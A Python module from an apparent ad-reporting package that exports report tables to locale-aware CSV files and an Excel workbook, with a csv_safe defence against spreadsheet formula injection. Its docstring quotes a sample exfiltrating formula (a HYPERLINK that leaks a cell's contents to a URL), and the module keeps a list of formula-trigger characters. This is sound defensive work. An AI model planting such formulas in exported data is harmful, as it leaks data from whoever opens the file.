"""The report's tables as files: one CSV each and one workbook, safe to open as they are.

:func:`write_tables` writes what ``--tables`` asks for, from the tables a report left in
its outputs (the ``TABLE_MIME`` output of each ``show_table``, ``export_table`` and named
``show_kpis``), in the report's order and language. Every figure is stored as the
spreadsheet should hold it (:func:`stored_value`): a percentage as a fraction, a ratio
rounded as the report shows it, a code as the words the report shows. The workbook
(:mod:`.workbook`) gives each cell its number format.

A CSV file follows the report locale's conventions by default, as Excel's regional
settings do (:func:`csv_dialect`): the locale's decimal mark, no grouping, ``;`` between
fields where the decimal mark is ``,``; UTF-8 with a byte order mark, without which Excel
reads a double-clicked CSV in the Windows code page ("CafÃ©"). ``csv_dialect="plain"``
is RFC 4180: ``,`` and ``.``, UTF-8 without a mark, for programs.

No text from an ad account can become a live formula in them (:func:`csv_safe`, and text
cells typed as text).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from dataclasses import dataclass
from decimal import ROUND_HALF_EVEN, Decimal
from pathlib import Path
from typing import TYPE_CHECKING, Any

from atribu_pandas.core.language import gettext as _
from atribu_pandas.core.language import use_language
from atribu_pandas.display.formats import Formats
from atribu_pandas.exceptions import ArgumentError
from atribu_pandas.reports.export import ABOUT_MIME, TABLE_MIME
from atribu_pandas.reports.files import write_atomic
from atribu_pandas.reports.workbook import Sheet, workbook_bytes

if TYPE_CHECKING:
    import nbformat

__all__ = [
    "CSV_DIALECTS",
    "CsvDialect",
    "csv_dialect",
    "csv_safe",
    "report_about",
    "report_tables",
    "stored_value",
    "write_tables",
]

#: What ``csv_dialect`` may be: the report locale's conventions, or RFC 4180.
CSV_DIALECTS = ("locale", "plain")


@dataclass(frozen=True)
class CsvDialect:
    """How a CSV file is written: field separator, decimal mark, byte order mark."""

    delimiter: str
    decimal: str
    bom: bool


def csv_dialect(name: str, locale: str) -> CsvDialect:
    """The CSV conventions ``name`` (one of :data:`CSV_DIALECTS`) means for ``locale``.

    Examples
    --------
    >>> csv_dialect("locale", "de_DE"), csv_dialect("locale", "en_US").delimiter
    (CsvDialect(delimiter=';', decimal=',', bom=True), ',')
    >>> csv_dialect("plain", "de_DE")
    CsvDialect(delimiter=',', decimal='.', bom=False)
    """
    if name == "plain":
        return CsvDialect(",", ".", bom=False)
    if name != "locale":
        raise ArgumentError("csv_dialect", name, "one of " + ", ".join(CSV_DIALECTS))
    from babel.numbers import get_decimal_symbol

    decimal = str(get_decimal_symbol(locale))
    # Excel splits a CSV at the list separator of the reader's regional settings, which
    # is ";" wherever "," is the decimal mark.
    return CsvDialect(";" if decimal == "," else ",", decimal, bom=True)


def report_tables(nb: nbformat.NotebookNode) -> list[dict[str, Any]]:
    """Return the tables a report left, in order: ``name``, ``title``, ``columns``,
    ``data`` and, from ``show_table``, ``headers``, ``kinds``, ``currency``, ``locale``,
    ``language``.

    Examples
    --------
    >>> from nbformat.v4 import new_notebook
    >>> report_tables(new_notebook())
    []
    """
    return [dict(found) for found in _outputs(nb, TABLE_MIME) if found]


def report_about(nb: nbformat.NotebookNode) -> list[list[Any]]:
    """Return the report's provenance as ``[label, value]`` pairs (the last
    ``ABOUT_MIME`` output), or an empty list.

    Examples
    --------
    >>> from nbformat.v4 import new_code_cell, new_notebook, new_output
    >>> out = new_output("display_data", {ABOUT_MIME: '[["Data", "demo"]]'})
    >>> report_about(new_notebook(cells=[new_code_cell("", outputs=[out])]))
    [['Data', 'demo']]
    """
    found = _outputs(nb, ABOUT_MIME)
    return [list(pair) for pair in found[-1]] if found else []


def _outputs(nb: nbformat.NotebookNode, mime: str) -> list[Any]:
    values = []
    for cell in nb.cells:
        for output in cell.get("outputs", []):
            value = output.get("data", {}).get(mime)
            if value is not None:
                values.append(json.loads(value) if isinstance(value, str) else value)
    return values


def stored_value(kind: str, value: Any, formats: Formats) -> Any:
    """A figure as a spreadsheet should hold it: a percentage (``percent``, in percent
    as the API sends it, and ``signed_percent``) as a fraction, a ratio (``times``)
    rounded to the 2 decimals the report shows, a ``label`` (API code) as the report's
    words, a ``date`` as a date; anything else as it is.

    Examples
    --------
    >>> f = Formats()
    >>> stored_value("percent", 0.4025, f), stored_value("times", 3.9194841656, f)
    (0.004025, 3.92)
    >>> stored_value("label", "OUTCOME_LEADS", f), stored_value("date", "2026-03-02T00:00", f)
    ('Leads', datetime.date(2026, 3, 2))
    """
    if value is None:
        return None
    if kind == "label":
        return formats.label(value)
    if kind in ("percent", "signed_percent"):
        # 12 places drop the float noise of the division (0.004025000000000001).
        return round(float(value) / 100, 12)
    if kind in ("times", "signed_times"):
        # As Babel rounds what the report shows (half even on the decimal: 2.345 -> 2.34).
        return float(Decimal(str(value)).quantize(Decimal("0.01"), rounding=ROUND_HALF_EVEN))
    if kind == "date" and isinstance(value, str):
        return dt.date.fromisoformat(value[:10])
    return value


def _sheet_name(name: str, used: set[str]) -> str:
    # Excel: at most 31 characters, none of []:*?/\ and unique in the workbook.
    base = re.sub(r"[\[\]:*?/\\]", " ", name)[:31] or "table"
    candidate, n = base, 2
    while candidate.lower() in used:
        suffix = f" ({n})"
        candidate, n = base[: 31 - len(suffix)] + suffix, n + 1
    used.add(candidate.lower())
    return candidate


def _sheet(table: dict[str, Any], used: set[str]) -> Sheet:
    formats = Formats(table.get("currency") or "USD", table.get("locale") or "en_US")
    columns = table["columns"]
    # A table from before kinds travelled: its values as they are.
    kinds = table.get("kinds") or ["text"] * len(columns)
    cell_kinds = [
        [kind if isinstance(kind, str) else kind[r] for kind in kinds]
        for r in range(len(table["data"]))
    ]
    rows = [
        [stored_value(kind, value, formats) for kind, value in zip(row_kinds, row, strict=True)]
        for row_kinds, row in zip(cell_kinds, table["data"], strict=True)
    ]
    name = _sheet_name(str(table.get("title") or table["name"]), used)
    return Sheet(name, table.get("headers") or columns, rows, cell_kinds, formats)


def _csv_cell(value: Any, decimal: str) -> Any:
    if isinstance(value, bool) or value is None:
        return "" if value is None else str(value)
    if isinstance(value, float):
        import numpy as np

        # Positional (no 1e-05 a spreadsheet might misread), shortest exact, no grouping.
        return np.format_float_positional(value, trim="-").replace(".", decimal)
    if isinstance(value, int):
        return str(value)
    if isinstance(value, dt.date):
        return value.isoformat()
    return csv_safe(str(value))


def _csv_bytes(sheet: Sheet, dialect: CsvDialect) -> bytes:
    buffer = io.StringIO()
    # CRLF, as RFC 4180 and Excel have it: a carriage return inside a name is then
    # quoted, not read as the end of a row.
    writer = csv.writer(buffer, delimiter=dialect.delimiter, lineterminator="\r\n")
    writer.writerow([csv_safe(str(h)) for h in sheet.headers])
    for row in sheet.rows:
        writer.writerow([_csv_cell(value, dialect.decimal) for value in row])
    return buffer.getvalue().encode("utf-8-sig" if dialect.bom else "utf-8")


def write_tables(
    nb: nbformat.NotebookNode, folder: Path, stem: str, csv_dialect_name: str = "locale"
) -> list[Path]:
    """Write every table of an executed report as ``<stem>-<name>.csv`` and ``<stem>.xlsx``.

    The figures are the values (not the formatted text) under the headers the report
    shows, a money header naming its currency, so a spreadsheet can add them up; the
    workbook's sheets come in the report's order, then "About" (in the report's
    language) when the report left its provenance.

    Returns
    -------
    list of pathlib.Path
        The CSV files, then the workbook (nothing when the report showed no table).

    Examples
    --------
    >>> from nbformat.v4 import new_notebook
    >>> write_tables(new_notebook(), Path("unused"), "empty")
    []
    """
    tables = report_tables(nb)
    if not tables:
        return []
    folder.mkdir(parents=True, exist_ok=True)
    written: list[Path] = []
    used: set[str] = set()
    sheets = [_sheet(table, used) for table in tables]
    for table, sheet in zip(tables, sheets, strict=True):
        path = folder / f"{stem}-{table['name']}.csv"
        write_atomic(path, _csv_bytes(sheet, csv_dialect(csv_dialect_name, sheet.formats.locale)))
        written.append(path)
    with use_language(tables[0].get("language") or "en"):
        about_name = _sheet_name(_("About"), used)
    workbook = folder / f"{stem}.xlsx"
    write_atomic(workbook, workbook_bytes(sheets, report_about(nb), about_name))
    written.append(workbook)
    return written


# What a spreadsheet reads as the start of a formula in a CSV cell (OWASP's list).
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value: Any) -> Any:
    """Return a CSV cell that no spreadsheet evaluates: text that would start a formula
    gets a leading apostrophe, as OWASP recommends; numbers, and text that is one, stay.

    A campaign or ad name is whatever someone typed in the ad platform, so
    ``=HYPERLINK("http://…?leak="&A1)`` must arrive as text.

    Examples
    --------
    >>> csv_safe("=1+2"), csv_safe("-3.5"), csv_safe("@SUM(A1)"), csv_safe(7)
    ("'=1+2", '-3.5', "'@SUM(A1)", 7)
    """
    if not isinstance(value, str) or not value.startswith(_FORMULA_START):
        return value
    try:
        float(value)
    except ValueError:
        return "'" + value
    return value
